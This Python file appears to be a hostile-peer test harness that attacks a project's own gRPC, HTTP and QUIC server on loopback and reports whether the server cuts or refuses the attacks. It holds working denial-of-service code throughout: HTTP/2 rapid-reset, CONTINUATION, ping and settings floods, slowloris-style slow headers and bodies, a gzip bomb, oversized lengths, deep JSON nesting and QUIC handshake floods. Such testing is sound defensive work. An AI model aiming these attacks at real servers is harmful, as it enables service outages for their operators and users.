"""Peers that mean no good, for `cargo xtask prove hostile`.

    hostile.py ATTACK --grpc PORT --http PORT --quic PORT --seconds N [--tls]

Attacks a server on loopback for N seconds from a few connections, opening another whenever one is cut, and prints one line
of JSON: how many connections were opened, how many the server cut, how many requests it answered, what was sent and
received. Frames are built with hyperframe and hpack, QUIC packets with aioquic, so that nothing here shares code with the
server. Rates are bounded: the point is what the server does about it, not who has the larger machine.
"""

import argparse
import gzip
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

CONNECTIONS = 4
"""Connections that attack at once, where one is enough to do harm."""
CROWD = 256
"""Connections that only wait."""
BURSTS_PER_S = 50
"""How often a connection sends its burst."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Tally:
    """What happened, counted from all threads."""

    def __init__(self):
        self.lock = threading.Lock()
        self.counts = dict(opened=0, cut=0, answered=0, sent_bytes=0, received_bytes=0)

    def add(self, **counts):
        with self.lock:
            for name, count in counts.items():
                self.counts[name] += count


class Attack:
    def __init__(self, options, tally):
        self.options = options
        self.tally = tally
        self.ends = time.monotonic() + options.seconds

    def going(self):
        return time.monotonic() < self.ends

    def connect(self, port, tls=False):
        stream = socket.create_connection(("127.0.0.1", port), timeout=5)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            stream = context.wrap_socket(stream)
        self.tally.add(opened=1)
        return stream

    def http2(self, port):
        stream = self.connect(port)
        stream.sendall(PREFACE + SettingsFrame(0).serialize())
        return stream

    def send(self, stream, data):
        stream.sendall(data)
        self.tally.add(sent_bytes=len(data))

    def read(self, stream, patience):
        """What is there to read; None once the peer has closed."""
        stream.settimeout(patience)
        try:
            data = stream.recv(65536)
        except (TimeoutError, ssl.SSLWantReadError):
            return b""
        self.tally.add(received_bytes=len(data))
        return data or None

    def until_cut(self, stream):
        """Reads until the peer closes or the attack is over."""
        while self.going():
            if self.read(stream, 0.2) is None:
                self.tally.add(cut=1)
                return

    def again_and_again(self, attack):
        """Attacks on one connection after the other until the time is over."""
        while self.going():
            try:
                attack()
            except (ConnectionError, BrokenPipeError, ssl.SSLError, OSError):
                self.tally.add(cut=1)
            time.sleep(0.02)

    def bursts(self, stream, make):
        """Sends a burst at a time, and reads what comes, until the peer closes or the attack is over."""
        while self.going():
            self.send(stream, make())
            if self.read(stream, 1 / BURSTS_PER_S) is None:
                raise ConnectionError


def request(encoder, stream_id, path="/v1/events", extra=(), flags=("END_HEADERS",)):
    """The headers of a POST."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "127.0.0.1"), *extra]
    frame = HeadersFrame(stream_id, encoder.encode(headers))
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


GRPC = (("content-type", "application/grpc"), ("te", "trailers"))
CONNECT = "/playhead.ingest.v1.IngestService/Connect"
PUBLISH = "/playhead.ingest.v1.IngestService/Publish"


class Streams:
    """Stream after stream on one connection, each with what follows its headers."""

    def __init__(self, follow, count=50):
        self.encoder = Encoder()
        self.next_id = 1
        self.follow = follow
        self.count = count

    def burst(self):
        parts = []
        for _ in range(self.count):
            parts.append(request(self.encoder, self.next_id))
            parts.extend(frame.serialize() for frame in self.follow(self.next_id))
            self.next_id += 2
        return b"".join(parts)


def on_both_edges(attack, once):
    """Attacks the gRPC and the HTTP port by turns."""
    ports = [attack.options.grpc, attack.options.http]

    def one():
        ports.append(ports.pop(0))
        once(ports[0])

    attack.again_and_again(one)


def rapid_reset(attack):
    def once(port):
        streams = Streams(lambda stream_id: [RstStreamFrame(stream_id, error_code=8)])
        attack.bursts(attack.http2(port), streams.burst)

    on_both_edges(attack, once)


def made_you_reset(attack):
    def once(port):
        streams = Streams(lambda stream_id: [WindowUpdateFrame(stream_id, window_increment=2**31 - 1)])
        attack.bursts(attack.http2(port), streams.burst)

    on_both_edges(attack, once)


def stream_flood(attack):
    def once(port):
        attack.bursts(attack.http2(port), Streams(lambda stream_id: []).burst)

    on_both_edges(attack, once)


def continuation_flood(attack):
    def once(port):
        stream = attack.http2(port)
        attack.send(stream, request(Encoder(), 1, flags=()))
        part = ContinuationFrame(1, Encoder().encode([("x-filler", "a" * 200)])).serialize()
        attack.bursts(stream, lambda: part * 100)

    on_both_edges(attack, once)


def ping_flood(attack):
    def once(port):
        ping = PingFrame(0, opaque_data=b"12345678").serialize()
        attack.bursts(attack.http2(port), lambda: ping * 200)

    on_both_edges(attack, once)


def settings_flood(attack):
    def once(port):
        attack.bursts(attack.http2(port), lambda: SettingsFrame(0).serialize() * 200)

    on_both_edges(attack, once)


def crowd(attack, begin):
    """Many connections that begin something and then wait to be cut."""
    ports = [attack.options.grpc, attack.options.http]
    waiting = []
    while attack.going():
        if len(waiting) < CROWD:
            ports.append(ports.pop(0))
            try:
                stream = attack.connect(ports[0])
                attack.send(stream, begin(ports[0]))
                waiting.append(stream)
            except OSError:
                attack.tally.add(cut=1)
        for stream in list(waiting) if len(waiting) == CROWD or attack.ends - time.monotonic() < 0.5 else []:
            try:
                if attack.read(stream, 0.0001) is None:
                    raise ConnectionError
            except OSError:
                attack.tally.add(cut=1)
                stream.close()
                waiting.remove(stream)


def silent_tcp(attack):
    crowd(attack, lambda port: b"")


def half_handshakes(attack):
    crowd(attack, lambda port: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(16))


def slow_headers(attack):
    """A byte of HTTP/1.1 headers at a time, and HTTP/2 header blocks that never end."""

    def once(port):
        if port == attack.options.grpc:
            stream = attack.http2(port)
            attack.send(stream, request(Encoder(), 1, flags=()))
            attack.until_cut(stream)
            return
        stream = attack.connect(port)
        attack.send(stream, b"POST /v1/events HTTP/1.1\r\nhost: a\r\nx-filler: ")
        while attack.going():
            attack.send(stream, b"a")
            if attack.read(stream, 0.2) is None:
                raise ConnectionError

    on_both_edges(attack, once)


def slow_body(attack):
    """A body that comes byte by byte, as a POST and as a gRPC message."""

    def once(port):
        if port == attack.options.grpc:
            stream = attack.http2(port)
            attack.send(stream, request(Encoder(), 1, PUBLISH, GRPC))
            byte = DataFrame(1, data=b"\x00").serialize()
        else:
            stream = attack.connect(port)
            head = "POST /v1/events HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n"
            attack.send(stream, head.encode())
            byte = b"{"
        answered = False
        while attack.going():
            attack.send(stream, byte)
            data = attack.read(stream, 0.2)
            if data is None:
                raise ConnectionError
            if not answered and (b"HTTP/1.1 4" in data or any_frame(data, 3) or any_frame(data, 1)):
                answered = True
                attack.tally.add(answered=1)
                return

    on_both_edges(attack, once)


def any_frame(data, kind):
    """True if one of these whole frames is of this kind."""
    while len(data) >= 9:
        if data[3] == kind:
            return True
        data = data[9 + int.from_bytes(data[:3], "big"):]
    return False


def never_reads(attack):
    """Asks and asks, and reads no answer."""

    def once():
        raw = socket.socket()
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        raw.settimeout(5)
        raw.connect(("127.0.0.1", attack.options.http))
        attack.tally.add(opened=1)
        ask = b"GET /v1/users/nobody/continue-watching HTTP/1.1\r\nhost: a\r\n\r\n" * 50
        while attack.going():
            attack.send(raw, ask)

    attack.again_and_again(once)


def gzip_bomb(attack):
    """A gigabyte of nothing in a megabyte, as a POST and as a gRPC message."""
    bomb = gzip.compress(bytes(64 << 20), 9) * 4

    def once(port):
        if port == attack.options.grpc:
            stream = attack.http2(port)
            message = b"\x01" + struct.pack(">I", len(bomb)) + bomb
            attack.send(stream, request(Encoder(), 1, PUBLISH, (*GRPC, ("grpc-encoding", "gzip"))))
            for at in range(0, 48 << 10, 16 << 10):
                attack.send(stream, DataFrame(1, data=message[at:at + (16 << 10)]).serialize())
        else:
            stream = attack.connect(port)
            head = "POST /v1/events HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\n"
            attack.send(stream, f"{head}content-length: {len(bomb)}\r\n\r\n".encode() + bomb)
        answer(attack, stream)

    on_both_edges(attack, once)


def answer(attack, stream):
    """Counts a refusal, and fails if it was taken."""
    heard = b""
    for _ in range(50):
        data = attack.read(stream, 0.1)
        if data is None:
            break
        heard += data
        if b"HTTP/1.1 " in heard or any_frame(heard, 1) or any_frame(heard, 3):
            break
        if not attack.going():
            return
    if b"HTTP/1.1 2" in heard:
        sys.exit("it was taken")
    attack.tally.add(answered=1)
    stream.close()


def giant_length(attack):
    """A gRPC message that says it has four gigabytes, and a body that says so."""

    def once(port):
        if port == attack.options.grpc:
            stream = attack.http2(port)
            attack.send(stream, request(Encoder(), 1, CONNECT, GRPC))
            attack.send(stream, DataFrame(1, data=b"\x00\xff\xff\xff\xff" + bytes(1000)).serialize())
        else:
            stream = attack.connect(port)
            head = "POST /v1/events HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
            attack.send(stream, f"{head}content-length: {1 << 40}\r\n\r\n".encode() + bytes(1000))
        answer(attack, stream)

    on_both_edges(attack, once)


def deep_nesting(attack):
    """JSON that opens and opens."""
    body = b'{"session":' + b"[" * 200_000

    def once():
        stream = attack.connect(attack.options.http)
        head = "POST /v1/events HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
        attack.send(stream, f"{head}content-length: {len(body)}\r\n\r\n".encode() + body)
        answer(attack, stream)

    attack.again_and_again(once)


def quic_client(server_name="localhost"):
    """A connection that has its first packets ready."""
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.connection import QuicConnection

    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=["playhead/1"], verify_mode=ssl.CERT_NONE, server_name=server_name
    )
    return QuicConnection(configuration=configuration)


def quic_initial_flood(attack):
    """First packets from ever new connections, whose answers nobody takes any further."""
    while attack.going():
        first = []
        for _ in range(20):
            connection = quic_client()
            connection.connect(("127.0.0.1", attack.options.quic), now=time.monotonic())
            first.extend(data for data, _ in connection.datagrams_to_send(now=time.monotonic()))
        spray(attack, first)


def spray(attack, datagrams):
    for _ in range(20):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.connect(("127.0.0.1", attack.options.quic))
            udp.settimeout(0.002)
            attack.tally.add(opened=len(datagrams))
            for data in datagrams:
                try:
                    udp.send(data)
                    attack.tally.add(sent_bytes=len(data))
                    attack.tally.add(received_bytes=len(udp.recv(2048)))
                except OSError:
                    pass
        if not attack.going():
            return


def quic_handshakes(attack):
    """Handshakes that stop behind the server's first flight."""
    held = []
    while attack.going():
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.connect(("127.0.0.1", attack.options.quic))
        udp.settimeout(0.05)
        connection = quic_client()
        connection.connect(("127.0.0.1", attack.options.quic), now=time.monotonic())
        for data, _ in connection.datagrams_to_send(now=time.monotonic()):
            udp.send(data)
            attack.tally.add(sent_bytes=len(data))
        attack.tally.add(opened=1)
        try:
            attack.tally.add(received_bytes=len(udp.recv(2048)), answered=1)
        except OSError:
            pass
        held.append(udp)
        if len(held) > CROWD:
            held.pop(0).close()


def quic_gaps(attack):
    """Streams whose bytes come in pieces of one, with a gap behind each."""
    from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted

    def once():
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.connect(("127.0.0.1", attack.options.quic))
        udp.settimeout(0.005)
        connection = quic_client()
        connection.connect(("127.0.0.1", attack.options.quic), now=time.monotonic())
        attack.tally.add(opened=1)
        ready = False
        while attack.going():
            for data, _ in connection.datagrams_to_send(now=time.monotonic()):
                udp.send(data)
                attack.tally.add(sent_bytes=len(data))
            try:
                data = udp.recv(2048)
                attack.tally.add(received_bytes=len(data))
                connection.receive_datagram(data, ("127.0.0.1", attack.options.quic), now=time.monotonic())
            except TimeoutError:
                connection.handle_timer(now=time.monotonic())
            while (event := connection.next_event()) is not None:
                if isinstance(event, ConnectionTerminated):
                    raise ConnectionError
                if isinstance(event, HandshakeCompleted):
                    ready = True
                    attack.tally.add(answered=1)
            if ready:
                gaps(connection)

    attack.again_and_again(once)


def gaps(connection):
    """Puts bytes with gaps on a few streams."""
    for _ in range(4):
        stream_id = connection.get_next_available_stream_id()
        if stream_id > 4 * 60:
            return
        connection.send_stream_data(stream_id, b"\x7f" * 4000)
        pending = connection._streams[stream_id].sender._pending
        for at in range(1, 4000, 2):
            pending.subtract(at, at + 1)


ATTACKS = {
    "rapid-reset": (rapid_reset, CONNECTIONS),
    "made-you-reset": (made_you_reset, CONNECTIONS),
    "continuation-flood": (continuation_flood, CONNECTIONS),
    "stream-flood": (stream_flood, CONNECTIONS),
    "ping-flood": (ping_flood, CONNECTIONS),
    "settings-flood": (settings_flood, CONNECTIONS),
    "silent-tcp": (silent_tcp, 1),
    "half-handshakes": (half_handshakes, 1),
    "slow-headers": (slow_headers, 64),
    "slow-body": (slow_body, 64),
    "never-reads": (never_reads, CONNECTIONS),
    "gzip-bomb": (gzip_bomb, CONNECTIONS),
    "giant-length": (giant_length, CONNECTIONS),
    "deep-nesting": (deep_nesting, CONNECTIONS),
    "quic-initial-flood": (quic_initial_flood, 1),
    "quic-handshakes": (quic_handshakes, 1),
    "quic-gaps": (quic_gaps, 1),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=ATTACKS)
    for port in ("grpc", "http", "quic"):
        parser.add_argument(f"--{port}", type=int, default=0)
    parser.add_argument("--seconds", type=float, default=3)
    options = parser.parse_args()
    run, threads = ATTACKS[options.attack]
    attack = Attack(options, Tally())
    workers = [threading.Thread(target=run, args=(attack,)) for _ in range(threads)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    print(json.dumps({"attack": options.attack, **attack.tally.counts}))


if __name__ == "__main__":
    main()
